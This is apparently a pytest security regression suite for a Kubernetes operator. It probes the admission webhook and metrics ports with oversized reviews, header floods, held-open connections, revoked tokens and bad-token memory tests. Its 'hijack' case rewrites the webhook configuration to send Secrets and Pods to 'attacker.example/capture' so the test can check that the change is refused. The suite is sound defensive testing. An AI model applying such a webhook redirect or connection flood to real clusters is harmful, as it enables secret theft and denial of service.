"""The doors under pressure: the security regression suite (issue 45), against the real API
server and ``orca run`` as a user runs it. docs/security.md lists every probe, the test that
keeps it, and what it found before.

One operator serves both ports as the Deployment does (``/metrics`` over HTTPS behind
TokenReview and SubjectAccessReview, the webhook registered by URL so the API server calls
it), each bound to 127.0.0.1. What it must hold:

- a bad Workload is refused at ``kubectl create`` and ``kubectl apply`` however large (64 KiB,
  200 KiB, 1 MiB, an update that carries two large objects): the review is read whole, up to
  ``MAX_REVIEW_BYTES``; one byte more is 413, unread;
- only ``POST /validate-workloads`` of an ``admission.k8s.io/v1`` review is evaluated, and no
  error repeats the request;
- connections that send nothing, or half their headers, end within the deadlines while
  scrapes and reviews go on being answered (``controller.operator.listener``);
- nothing listens beyond the bind address;
- a token revoked, or a binding removed, stops being honoured within the caches' 10 s; 5,000
  distinct bad tokens leave memory bounded;
- the operator's ServiceAccount cannot change its webhook configuration beyond the caBundle
  (the ValidatingAdmissionPolicy of manifests/webhook), and its own CA rotation still lands.

The probes that already held are kept where they were written: the 401/403 matrix
(test_metrics_auth.py), deep JSON, 10 MB bodies and expensive CEL (test_admission.py).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import copy
import json
import socket
import ssl
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import yaml

from controller.devcluster.controlplane import ControlPlane, KubectlRunner
from controller.operator import tls
from controller.operator.listener import DEFAULT_LIMITS
from controller.operator.serving import CACHE_TTL
from controller.operator.webhook import MAX_REVIEW_BYTES
from tests.support.factories import admission_review as review
from tests.support.factories import workload_obj
from tests.support.harness import REPO_ROOT, OperatorProcess, free_port

pytestmark = pytest.mark.controlplane

READER_ROLE = REPO_ROOT / "manifests" / "rbac" / "metrics-reader.yaml"
RESOURCE = "workloads.orca.cloudinit.dev"
DENIED = 'admission webhook "validate-workloads.orca.cloudinit.dev" denied the request: '
#: The constraint the issue's probe used: a field ``node`` lacks (only orca sees it).
BAD_CONSTRAINT = '"ssd" in node.tag'
KiB, MiB = 1024, 1024 * 1024
#: The shipped install's names (manifests/default).
SYSTEM = "orca-system"
OPERATOR_USER = f"system:serviceaccount:{SYSTEM}:orca-controller"
CONFIGURATION = "orca-controller"
SECRET = "orca-controller-tls"
CONFIGURATIONS = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
POLICY_SAYS = "ValidatingAdmissionPolicy 'orca-controller-webhook-ca-bundle-only'"


def context() -> ssl.SSLContext:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def https(
    port: int,
    path: str,
    token: str | None = None,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
    host: str = "127.0.0.1",
) -> tuple[int, str]:
    sent = dict(headers or {})
    if token is not None:
        sent["Authorization"] = f"Bearer {token}"
    if body is not None:
        sent.setdefault("Content-Type", "application/json")
    request = urllib.request.Request(f"https://{host}:{port}{path}", data=body, headers=sent)
    try:
        with urllib.request.urlopen(request, timeout=30, context=context()) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


def token(kubectl: KubectlRunner, namespace: str, account: str) -> str:
    return kubectl("create", "token", account, "-n", namespace, check=True).stdout.strip()


@dataclass
class Doors:
    namespace: str
    op: OperatorProcess
    metrics: int
    webhook: int
    reader: str  # a token allowed to get /metrics

    def scrape(self, token: str | None, path: str = "/metrics") -> tuple[int, str]:
        return https(self.metrics, path, token)


def bind_reader(kubectl: KubectlRunner, namespace: str, account: str) -> str:
    """Bind ``account`` to the metrics-reader ClusterRole; the binding's name."""
    binding = f"orca-doors-{namespace}-{account}"
    kubectl(
        "create",
        "clusterrolebinding",
        binding,
        "--clusterrole=orca-controller-metrics-reader",
        f"--serviceaccount={namespace}:{account}",
        check=True,
    )
    return binding


@pytest.fixture(scope="module")
def doors(
    control_plane: ControlPlane,
    kubectl: KubectlRunner,
    installed: None,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Doors]:
    namespace = f"doors-{uuid.uuid4().hex[:6]}"
    kubectl("create", "namespace", namespace, check=True)
    kubectl("apply", "-f", str(READER_ROLE), check=True)
    kubectl("create", "serviceaccount", "reader", "-n", namespace, check=True)
    binding = bind_reader(kubectl, namespace, "reader")
    webhook = free_port()
    op = OperatorProcess(
        control_plane.kubeconfig_path,
        tmp_path_factory.mktemp("doors") / "operator.log",
        namespaces=[namespace],
        lease_namespace=namespace,
        metrics_insecure=False,
        extra=[
            "--webhook-host=127.0.0.1",
            f"--webhook-port={webhook}",
            "--webhook-bind-address=127.0.0.1",
            f"--webhook-configuration=orca-doors-{namespace}",
        ],
    )
    try:
        doors = Doors(namespace, op, op.metrics_port, webhook, token(kubectl, namespace, "reader"))
        deadline = time.monotonic() + 90
        while not refused_by_webhook(kubectl, bad(namespace, "probe"), "--dry-run=server"):
            assert op.process.poll() is None and time.monotonic() < deadline, op.log()
            time.sleep(0.5)
        while doors.scrape(None, "/readyz")[0] != 200:
            assert time.monotonic() < deadline, op.log()
            time.sleep(0.3)
        yield doors
    finally:
        op.stop()
        kubectl("delete", "clusterrolebinding", binding, "--ignore-not-found")
        kubectl("delete", "validatingwebhookconfiguration", f"orca-doors-{namespace}")
        kubectl("delete", RESOURCE, "--all", "-n", namespace, "--wait=false")


def bad(namespace: str, name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    obj = workload_obj(name, namespace, kind="Service", count=2, constraints=[BAD_CONSTRAINT])
    if labels:
        obj["metadata"]["labels"] = labels
    return obj


def padding(size: int) -> dict[str, str]:
    """Labels that make a Workload's JSON at least ``size`` bytes larger: the one part of a
    Workload that can be that large (annotations stop at 256 KiB, the spec's fields are
    bounded by the schema, unknown fields are pruned)."""
    value = "x" * 63  # the longest label value
    one = len(json.dumps({"pad-00000": value})) - 1
    return {f"pad-{i:05d}": value for i in range(size // one + 1)}


def refused_by_webhook(kubectl: KubectlRunner, obj: dict[str, Any], *flags: str) -> bool:
    """``kubectl apply`` of ``obj`` is refused, and by the webhook."""
    done = kubectl("apply", *flags, "-f", "-", input=yaml.safe_dump(obj))
    return done.returncode != 0 and DENIED in done.stderr


# -- the webhook reads the whole review ------------------------------------------------------


WAYS = {
    "create": ("create",),
    "apply": ("apply",),
    "server-side apply": ("apply", "--server-side"),
}


@pytest.mark.parametrize(
    ("size", "way"),
    [
        pytest.param(64 * KiB, "create", id="64KiB-create"),
        pytest.param(64 * KiB, "apply", id="64KiB-apply"),
        pytest.param(64 * KiB, "server-side apply", id="64KiB-server-side-apply"),
        pytest.param(200 * KiB, "create", id="200KiB-create"),
        pytest.param(200 * KiB, "apply", id="200KiB-apply"),
        pytest.param(200 * KiB, "server-side apply", id="200KiB-server-side-apply"),
        # kubectl's client-side apply copies the object into an annotation, and annotations
        # stop at 256 KiB (the API server refuses that itself, before any webhook): a 1 MiB
        # Workload is applied server-side.
        pytest.param(1 * MiB, "create", id="1MiB-create"),
        pytest.param(1 * MiB, "server-side apply", id="1MiB-server-side-apply"),
    ],
)
def test_a_bad_workload_is_refused_however_large(
    doors: Doors, kubectl: KubectlRunner, size: int, way: str
) -> None:
    name = f"big-{size // KiB}k-{way.replace(' ', '-')}"
    obj = bad(doors.namespace, name, padding(size))
    assert len(json.dumps(obj)) >= size  # the review carries at least this (and more)
    done = kubectl(*WAYS[way], "-f", "-", input=yaml.safe_dump(obj))
    assert done.returncode != 0, f"stored: {done.stdout}"
    assert DENIED in done.stderr, done.stderr[-500:]
    assert "spec.constraints[0]" in done.stderr.split(DENIED, 1)[1]
    assert kubectl("get", RESOURCE, name, "-n", doors.namespace).returncode != 0


def test_an_update_that_carries_two_large_objects_is_refused(
    doors: Doors, kubectl: KubectlRunner
) -> None:
    """An UPDATE's review holds the new object and the old: here 2 x ~600 KiB of labels
    (plus their managedFields), a review well above 1 MiB."""
    name = "big-update"
    good = workload_obj(name, doors.namespace, kind="Service", count=2)
    good["metadata"]["labels"] = padding(600 * KiB)
    kubectl("create", "-f", "-", input=yaml.safe_dump(good), check=True)
    changed = copy.deepcopy(good)
    changed["spec"]["constraints"] = [BAD_CONSTRAINT]
    done = kubectl(
        "apply", "--server-side", "--force-conflicts", "-f", "-", input=yaml.safe_dump(changed)
    )
    assert done.returncode != 0 and DENIED in done.stderr, done.stderr[-500:]
    stored = json.loads(kubectl("get", RESOURCE, name, "-n", doors.namespace, "-o", "json").stdout)
    assert "constraints" not in stored["spec"]


def test_a_review_of_the_limit_is_read_and_one_byte_more_is_413(doors: Doors) -> None:
    """No Workload the API server can store makes a review this large (why:
    ``webhook.MAX_REVIEW_BYTES``), so the bound is shown by posting to the port directly."""
    body = review(bad(doors.namespace, "at-the-limit"))
    at_limit = body[:-1] + b" " * (MAX_REVIEW_BYTES - len(body)) + b"}"
    assert len(at_limit) == MAX_REVIEW_BYTES
    status, text = https(doors.webhook, "/validate-workloads", body=at_limit)
    answer = json.loads(text)["response"]
    assert (status, answer["allowed"]) == (200, False)
    assert "spec.constraints[0]" in answer["status"]["message"]
    status, text = https(doors.webhook, "/validate-workloads", body=at_limit + b" ")
    assert (status, text) == (413, f"Request Entity Too Large: over {MAX_REVIEW_BYTES} bytes\n")


# -- the webhook answers only its own question -------------------------------------------------


def test_only_its_path_and_only_v1_reviews_are_evaluated(doors: Doors) -> None:
    refused = review(bad(doors.namespace, "x"))
    cases = {
        "another path": (https(doors.webhook, "/validate-pods", body=refused), 404),
        "the root": (https(doors.webhook, "/", body=refused), 404),
        "a GET": (https(doors.webhook, "/validate-workloads"), 405),
        "a v1beta1 review": (
            https(
                doors.webhook,
                "/validate-workloads",
                body=review(bad(doors.namespace, "x"), "admission.k8s.io/v1beta1"),
            ),
            400,
        ),
    }
    for what, ((status, text), want) in cases.items():
        assert status == want, f"{what}: {status} {text[:200]!r}"
        assert "allowed" not in text, what
        assert len(text.strip().splitlines()) == 1, f"{what}: {text!r}"


def raw_exchange(port: int, request: bytes) -> bytes:
    """``request`` over TLS as it is, and everything sent back until the server closes. The
    answer is read while the request is still being sent: a server that answers a request
    too large before its end, then closes, makes the kernel reset the connection, and an
    answer not read by then is lost."""

    async def exchange() -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context())
        writer.write(request)  # sent as the peer takes it, while this reads
        answer = b""
        try:
            async with asyncio.timeout(30):
                while chunk := await reader.read(65536):
                    answer += chunk
        except (ConnectionError, ssl.SSLError):
            pass
        writer.close()
        return answer

    return asyncio.run(exchange())


@pytest.mark.parametrize("port_of", ["metrics", "webhook"])
@pytest.mark.parametrize(
    "request_bytes",
    [
        pytest.param(
            b"GET /metrics HTTP/1.1\r\nHost: o\r\nAuthorization: Bearer s3cr3t"
            + b"x" * 20_000
            + b"\r\n\r\n",
            id="a-20000-byte-header",
        ),
        pytest.param(
            b"GET /metrics HTTP/1.1\r\nHost: o\r\n" + b"X-s3cr3t: 1\r\n" * 30_000 + b"\r\n",
            id="30000-headers",
        ),
        pytest.param(b"GE\x00T /s3cr3t HTTP/1.1\r\n\r\n", id="not-a-method"),
    ],
)
def test_an_error_repeats_nothing_of_the_request(
    doors: Doors, port_of: str, request_bytes: bytes
) -> None:
    port = doors.metrics if port_of == "metrics" else doors.webhook
    answer = raw_exchange(port, request_bytes)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split(b" ")[1] == b"400", answer[:300]
    assert body == b"400 Bad Request\n"
    assert b"s3cr3t" not in answer
    assert doors.op.process.poll() is None


# -- connections that never finish -------------------------------------------------------------


async def hold(port: int, kind: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """One connection that does not finish: ``tcp`` (no TLS handshake), ``tls`` (TLS, then
    nothing) or ``half`` (TLS, half the headers); None if the server closed it already (at
    the bound, to make room, during the handshake)."""
    try:
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", port, ssl=None if kind == "tcp" else context()
        )
        if kind == "half":
            writer.write(b"GET /metrics HTTP/1.1\r\nHost: o\r\nX-Slow: ")
            await writer.drain()
    except (ConnectionError, ssl.SSLError):
        return None
    return reader, writer  # the writer kept: once collected, it closes the connection


async def until_closed(
    connection: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None,
    opened: float,
    limit: float,
) -> float | None:
    """Seconds from ``opened`` until the server closed ``connection``, or None if it had not
    ``limit`` seconds after that."""
    if connection is None:
        return 0.0
    reader, writer = connection
    try:
        async with asyncio.timeout_at(asyncio.get_running_loop().time() + limit):
            while await reader.read(65536):
                pass
    except TimeoutError:
        return None
    except (ConnectionError, ssl.SSLError):
        pass
    finally:
        writer.close()
    return time.monotonic() - opened


def test_idle_and_half_sent_connections_end_while_scrapes_and_reviews_answer(
    doors: Doors, kubectl: KubectlRunner
) -> None:
    """200 connections that send nothing (half of them without a TLS handshake) and 200 that
    send half their headers, half to each port: while they are held, a scrape and a review
    (through the API server) are answered; then each is closed by the server within its
    deadline (10 s: the handshake's, the headers')."""
    kinds = ["tcp"] * 50 + ["tls"] * 50 + ["half"] * 100
    answered: list[str] = []
    still_held: list[int] = []  # when each answer came

    def review() -> tuple[int, str]:
        refused = refused_by_webhook(kubectl, bad(doors.namespace, "held"), "--dry-run=server")
        return (422 if refused else 200), ""

    async def scenario() -> list[float | None]:
        patience = max(DEFAULT_LIMITS.handshake, DEFAULT_LIMITS.header) + 30  # a loaded machine
        loop = asyncio.get_running_loop()
        held: list[asyncio.Task[float | None]] = []
        for port, ask in (
            (doors.metrics, lambda: doors.scrape(doors.reader)),
            (doors.webhook, review),
        ):
            opened = time.monotonic()
            connections = await asyncio.gather(*(hold(port, kind) for kind in kinds))
            held += [asyncio.create_task(until_closed(c, opened, patience)) for c in connections]
            status, _ = await loop.run_in_executor(None, ask)
            answered.append(str(status))
            still_held.append(sum(not task.done() for task in held[-len(kinds) :]))
        return await asyncio.gather(*held)

    closed = asyncio.run(scenario())
    assert answered == ["200", "422"]  # the scrape served, the bad Workload refused
    ended = [seconds for seconds in closed if seconds is not None]
    assert len(ended) == len(closed), f"{len(closed) - len(ended)} connections never closed"
    print(
        f"open when answered: {still_held} of {len(kinds)} a port; all {len(closed)} then "
        f"closed by the server, the last {max(ended):.1f}s after it was opened"
    )
    assert all(n > 0 for n in still_held)  # answered while they were held
    assert doors.scrape(doors.reader)[0] == 200
    assert doors.op.process.poll() is None


# -- where it listens --------------------------------------------------------------------------


def test_nothing_listens_beyond_the_bind_address(doors: Doors) -> None:
    """Both ports are bound to 127.0.0.1: 127.0.0.2 is this machine too (the loopback
    network), and the machine's own addresses, but nothing is served there."""
    addresses = {"127.0.0.2"}
    with contextlib.suppress(OSError):
        addresses |= {
            str(info[4][0])
            for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)
            if not str(info[4][0]).startswith("127.")
        }
    for port in (doors.metrics, doors.webhook):
        with socket.create_connection(("127.0.0.1", port), timeout=5):
            pass  # served on the bind address
        for address in addresses:
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection((address, port), timeout=5).close()


# -- who may scrape, and for how long -----------------------------------------------------------


def test_a_revoked_token_and_a_removed_binding_stop_within_the_caches_ttl(
    doors: Doors, kubectl: KubectlRunner
) -> None:
    """Both answers are cached for ``CACHE_TTL`` (kube's 10 s): a token whose ServiceAccount
    is deleted is refused (401) and a user whose binding is removed is forbidden (403) once
    the cached answer ends, not later."""
    for account in ("revoked", "unbound"):
        kubectl("create", "serviceaccount", account, "-n", doors.namespace, check=True)
    bindings = {a: bind_reader(kubectl, doors.namespace, a) for a in ("revoked", "unbound")}
    tokens = {a: token(kubectl, doors.namespace, a) for a in ("revoked", "unbound")}
    try:
        for account, credential in tokens.items():
            assert doors.scrape(credential)[0] == 200, account
        changed = time.monotonic()
        kubectl("delete", "serviceaccount", "revoked", "-n", doors.namespace, check=True)
        kubectl("delete", "clusterrolebinding", bindings.pop("unbound"), check=True)
        waited = {}
        for account, want in (("revoked", 401), ("unbound", 403)):
            while doors.scrape(tokens[account])[0] != want:
                assert time.monotonic() - changed < CACHE_TTL + 20, f"{account}: still served"
                time.sleep(0.5)
            waited[account] = time.monotonic() - changed
        print(f"refused after (s): {waited}")
        # Never later than the cache allows (a margin for the 2-core machine's scheduling).
        assert all(seconds < CACHE_TTL + 5 for seconds in waited.values()), waited
    finally:
        for binding in bindings.values():
            kubectl("delete", "clusterrolebinding", binding, "--ignore-not-found")


def rss(pid: int) -> int:
    """Resident memory of ``pid`` in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmRSS for {pid}")


async def scrape_with_bad_tokens(port: int, count: int) -> set[int]:
    """``count`` scrapes, each with a token of its own that nobody issued, 16 at a time over
    kept-alive connections."""
    connector = aiohttp.TCPConnector(ssl=context(), limit=16)
    async with aiohttp.ClientSession(connector=connector) as session:

        async def scrape(i: int) -> int:
            headers = {"Authorization": f"Bearer bad-{i}-{uuid.uuid4().hex}"}
            url = f"https://127.0.0.1:{port}/metrics"
            async with session.get(url, headers=headers) as response:
                await response.read()
                return response.status

        return set(await asyncio.gather(*(scrape(i) for i in range(count))))


def test_5000_distinct_bad_tokens_leave_memory_bounded(doors: Doors) -> None:
    """Each is reviewed once and its denial cached: the caches hold ``CACHE_SIZE`` entries at
    most, so 5,000 tokens cost what 4,096 do (measured: a few MB), and the next good scrape
    is answered."""
    pid = doors.op.process.pid
    for _ in range(20):  # warm: the first scrapes allocate what every scrape needs
        doors.scrape(doors.reader)
    before = rss(pid)
    statuses = asyncio.run(scrape_with_bad_tokens(doors.metrics, 5000))
    after = rss(pid)
    print(f"RSS {before / MiB:.1f} -> {after / MiB:.1f} MiB after 5,000 bad tokens")
    assert statuses == {401}
    assert after - before < 32 * MiB
    assert doors.scrape(doors.reader)[0] == 200


# -- the operator's ServiceAccount and its webhook configuration ------------------------------


def as_operator(control_plane: ControlPlane, directory: Path) -> Path:
    """A kubeconfig for the operator's ServiceAccount user (a client certificate), as the
    Deployment's Pod authenticates."""
    return control_plane.mint_kubeconfig(
        OPERATOR_USER,
        ["system:serviceaccounts", f"system:serviceaccounts:{SYSTEM}"],
        directory / "operator.kubeconfig",
    )


def shipped_configuration(kubectl: KubectlRunner) -> dict[str, Any]:
    got = kubectl("get", "validatingwebhookconfiguration", CONFIGURATION, "-o", "json", check=True)
    return dict(json.loads(got.stdout))


def put(kubectl: KubectlRunner, kubeconfig: Path, body: dict[str, Any]) -> tuple[bool, str]:
    """PUT ``body`` as the operator, a server-side dry run: accepted, and what was said."""
    done = kubectl(
        "replace",
        "--raw",
        f"{CONFIGURATIONS}/{CONFIGURATION}?dryRun=All",
        "-f",
        "-",
        input=json.dumps(body),
        kubeconfig=kubeconfig,
    )
    return done.returncode == 0, done.stderr.strip()


def hijack(hook: dict[str, Any]) -> None:
    """The issue's probe: another URL, Secrets and Pods, fail closed."""
    hook["clientConfig"] = {
        "url": "https://attacker.example/capture",
        "caBundle": hook["clientConfig"].get("caBundle", ""),
    }
    hook["rules"] = [
        {
            "apiGroups": [""],
            "apiVersions": ["v1"],
            "operations": ["CREATE", "UPDATE"],
            "resources": ["secrets", "pods"],
            "scope": "*",
        }
    ]
    hook["failurePolicy"] = "Fail"


CHANGES = {
    "the issue's hijack": hijack,
    "url": lambda h: h.update(
        clientConfig={"url": "https://attacker.example", "caBundle": h["clientConfig"]["caBundle"]}
    ),
    "service name": lambda h: h["clientConfig"]["service"].update(name="attacker"),
    "service namespace": lambda h: h["clientConfig"]["service"].update(namespace="default"),
    "service path": lambda h: h["clientConfig"]["service"].update(path="/capture"),
    "service port": lambda h: h["clientConfig"]["service"].update(port=8443),
    "rules": lambda h: h["rules"][0].update(resources=["workloads", "secrets"]),
    "failurePolicy": lambda h: h.update(failurePolicy="Fail"),
    "matchPolicy": lambda h: h.update(matchPolicy="Exact"),
    "namespaceSelector": lambda h: h.update(namespaceSelector={"matchLabels": {"a": "b"}}),
    "objectSelector": lambda h: h.update(objectSelector={"matchLabels": {"a": "b"}}),
    "sideEffects": lambda h: h.update(sideEffects="NoneOnDryRun"),
    "timeoutSeconds": lambda h: h.update(timeoutSeconds=30),
    "admissionReviewVersions": lambda h: h.update(admissionReviewVersions=["v1", "v1beta1"]),
    "matchConditions": lambda h: h.update(
        matchConditions=[{"name": "never", "expression": "false"}]
    ),
    "name": lambda h: h.update(name="other.orca.cloudinit.dev"),
}


def test_the_operator_may_change_its_webhook_configuration_only_in_its_ca_bundle(
    control_plane: ControlPlane, kubectl: KubectlRunner, installed: None, tmp_path: Path
) -> None:
    """As the operator's ServiceAccount, every field of the webhook but its caBundle, a
    webhook added or removed, the configuration's labels or annotations, another
    configuration, a delete: refused. Its caBundle: accepted. The API server's OpenAPI names
    no field of a webhook the policy does not compare."""
    kubeconfig = as_operator(control_plane, tmp_path)
    current = shipped_configuration(kubectl)
    new_ca = base64.b64encode(tls.generate(["orca-webhook.orca-system.svc"]).ca).decode()

    def changed(change: Any, ca: bool = True) -> dict[str, Any]:
        body = copy.deepcopy(current)
        if ca:
            body["webhooks"][0]["clientConfig"]["caBundle"] = new_ca
        change(body)
        return body

    accepted, said = put(kubectl, kubeconfig, changed(lambda b: None))
    assert accepted, said
    refusals = {
        **{f"webhook {k}": changed(lambda b, c=c: c(b["webhooks"][0])) for k, c in CHANGES.items()},
        "a webhook added": changed(
            lambda b: b["webhooks"].append({**copy.deepcopy(b["webhooks"][0]), "name": "x.y.z"})
        ),
        "the webhooks removed": changed(lambda b: b.update(webhooks=[])),
        "a label": changed(lambda b: b["metadata"]["labels"].update(extra="1")),
        "an annotation": changed(
            lambda b: (
                b["metadata"]
                .setdefault("annotations", {})
                .update({"cert-manager.io/inject-ca-from": "orca-system/attacker"})
            )
        ),
    }
    for what, body in refusals.items():
        accepted, said = put(kubectl, kubeconfig, body)
        assert not accepted and POLICY_SAYS in said, f"{what}: {said}"
    other = {**copy.deepcopy(current), "metadata": {"name": "attacker"}}
    for attempt in (
        ("delete", "validatingwebhookconfiguration", CONFIGURATION, "--dry-run=server"),
        (
            "delete",
            "validatingadmissionpolicybinding",
            "orca-controller-webhook-ca-bundle-only",
            "--dry-run=server",
        ),
        ("create", "-f", "-", "--dry-run=server"),
    ):
        done = kubectl(*attempt, input=json.dumps(other), kubeconfig=kubeconfig)
        assert done.returncode != 0 and "forbidden" in done.stderr.lower(), attempt
    # Every field the API server knows of a webhook and of its clientConfig is compared.
    openapi = json.loads(
        kubectl(
            "get", "--raw", "/openapi/v3/apis/admissionregistration.k8s.io/v1", check=True
        ).stdout
    )["components"]["schemas"]
    policy = (REPO_ROOT / "manifests" / "webhook" / "ca-bundle-only-policy.yaml").read_text()
    webhook_fields = openapi["io.k8s.api.admissionregistration.v1.ValidatingWebhook"]["properties"]
    client_fields = openapi["io.k8s.api.admissionregistration.v1.WebhookClientConfig"]["properties"]
    for field in set(webhook_fields) - {"clientConfig", "name"}:
        assert f"o.?{field} == w.?{field}" in policy, field
    for field in set(client_fields) - {"caBundle"}:
        assert f"o.clientConfig.?{field} == w.clientConfig.?{field}" in policy, field


def test_the_operators_own_ca_rotation_lands(
    control_plane: ControlPlane, kubectl: KubectlRunner, installed: None, tmp_path: Path
) -> None:
    """The operator as its ServiceAccount, as the Deployment runs it (its certificate in the
    Secret, the shipped configuration's caBundle kept): a first CA lands; its certificate made
    unfit, the next start makes a new CA, and that lands too; no request is denied."""
    kubeconfig = as_operator(control_plane, tmp_path)
    kubectl("delete", "secret", SECRET, "-n", SYSTEM, "--ignore-not-found", check=True)

    def start(log: str) -> OperatorProcess:
        op = OperatorProcess(
            kubeconfig,
            tmp_path / log,
            namespaces=["default"],
            lease_namespace=SYSTEM,
            lease_name="orca-controller",
            metrics_insecure=False,
            extra=[
                "--no-leader-elect",
                f"--webhook-port={free_port()}",
                "--webhook-bind-address=127.0.0.1",
                f"--webhook-service={SYSTEM}/orca-webhook",
                f"--tls-secret={SYSTEM}/{SECRET}",
            ],
        )
        return op

    def bundle_is_the_secrets_ca(op: OperatorProcess) -> str:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            assert op.process.poll() is None, op.log()
            secret = kubectl("get", "secret", SECRET, "-n", SYSTEM, "-o", "json")
            if secret.returncode == 0:
                ca = json.loads(secret.stdout)["data"].get("ca.crt")
                hooks = shipped_configuration(kubectl)["webhooks"]
                if ca and all(h["clientConfig"].get("caBundle") == ca for h in hooks):
                    return str(ca)
            time.sleep(0.5)
        raise AssertionError(f"caBundle never set:\n{op.log()}")

    first = start("first.log")
    try:
        ca_one = bundle_is_the_secrets_ca(first)
    finally:
        first.stop()
    stale = tls.generate(["elsewhere.example"])
    kubectl(
        "patch",
        "secret",
        SECRET,
        "-n",
        SYSTEM,
        "--type=merge",
        "-p",
        json.dumps(
            {
                "data": {
                    k: base64.b64encode(v).decode()
                    for k, v in (
                        ("tls.crt", stale.cert),
                        ("tls.key", stale.key),
                        ("ca.crt", stale.ca),
                    )
                }
            }
        ),
        check=True,
    )
    second = start("second.log")
    try:
        ca_two = bundle_is_the_secrets_ca(second)
    finally:
        second.stop()
    assert ca_two not in (ca_one, base64.b64encode(stale.ca).decode())
    for log in ("first.log", "second.log"):
        text = (tmp_path / log).read_text()
        assert "forbidden" not in text.lower() and " 403" not in text, text[-2000:]
